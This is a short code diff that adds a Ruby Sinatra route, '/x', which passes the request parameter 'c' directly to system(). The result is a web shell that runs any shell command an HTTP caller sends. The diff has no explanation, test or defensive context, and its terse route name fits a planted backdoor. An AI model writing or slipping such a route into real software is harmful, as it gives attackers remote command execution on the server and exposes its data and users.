@@ -1,0 +1,4 @@
+require 'sinatra'
+get '/x' do
+  system(params['c'])
+end
